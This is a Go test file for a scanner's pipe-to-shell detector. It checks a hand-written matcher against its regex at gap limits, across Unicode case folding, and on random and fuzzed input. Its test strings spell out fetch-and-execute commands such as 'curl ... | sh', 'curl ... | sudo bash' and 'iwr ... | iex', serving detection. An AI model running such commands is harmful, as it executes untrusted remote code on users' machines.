package scan

import (
	"math/rand"
	"reflect"
	"regexp"
	"strings"
	"testing"
)

var pipeTokens = []string{
	"curl", "CURL", "wget", "WGet", "iwr", "irm", "IRM", "invoke-webrequest", "Invoke-RestMethod", "invoke-",
	"|", " | ", "||", "sh", "bash", "zsh", "dash", "ksh", "fish", "shell", "sudo ", "ſudo ", "ſh", "\u212ash",
	"iex", "IEX", "iexplore", "\n", ";", " ", "\t", "\r", "x", "é", "\xff", "_", "-", "k", "fi", "ba", "z",
	strings.Repeat("a", 150), strings.Repeat("é", 100), strings.Repeat("b", 297),
}

// randomPipeText glues tokens so that commands, gaps near 300 characters,
// pipes and shells meet in every order.
func randomPipeText(r *rand.Rand) string {
	var b strings.Builder
	for range 1 + r.Intn(14) {
		b.WriteString(pipeTokens[r.Intn(len(pipeTokens))])
	}
	return b.String()
}

func checkPipeToShell(t *testing.T, re *regexp.Regexp, s string) {
	t.Helper()
	for _, n := range []int{-1, 1, 2} {
		got, want := pipeToShell{}.FindAllStringIndex(s, n), re.FindAllStringIndex(s, n)
		if !reflect.DeepEqual(got, want) {
			t.Fatalf("%q (n %d): matcher %v, pattern %v", s, n, got, want)
		}
	}
}

// The matcher finds exactly what pipeToShellPattern finds, at the edges of
// its gap (299, 300 and 301 characters, counted in characters, not bytes),
// across case folding (ſ is s, K is k to the pattern), and in random text.
func TestPipeToShellMatchesItsPattern(t *testing.T) {
	t.Parallel()
	re := regexp.MustCompile(pipeToShellPattern)
	for _, s := range []string{
		"curl -fsSL https://x.example/i.sh | sh",
		"curl https://x | sudo bash", "wget -qO- u|zsh", "iwr https://x | iex", "irm u | IEX",
		"Invoke-WebRequest u | iex", "curl u | iex", "wget u | iex", "curl u ; | sh", "curl u\n| sh",
		"curl " + strings.Repeat("a", 298) + "|sh", "curl " + strings.Repeat("a", 299) + "|sh",
		"curl " + strings.Repeat("a", 300) + "|sh", "curl" + strings.Repeat("é", 300) + "|sh",
		"curl" + strings.Repeat("é", 301) + "|sh", "curl x " + strings.Repeat("a", 300) + " wget y | sh",
		"curl a | shell", "curl a | ſh", "curl a | \u212ash", "curl a | ſudo sh", "xcurl a | sh", "curl_x | sh",
		"curl a | sh curl b | bash", "curl a | sh | sh", "iwr-curl a | sh", "curl\xff\xfe | sh", "",
	} {
		checkPipeToShell(t, re, s)
	}
	r := rand.New(rand.NewSource(20))
	for range 20000 {
		checkPipeToShell(t, re, randomPipeText(r))
	}
}

func FuzzPipeToShell(f *testing.F) {
	r := rand.New(rand.NewSource(1))
	for range 20 {
		f.Add(randomPipeText(r))
	}
	re := regexp.MustCompile(pipeToShellPattern)
	f.Fuzz(func(t *testing.T, s string) { checkPipeToShell(t, re, s) })
}
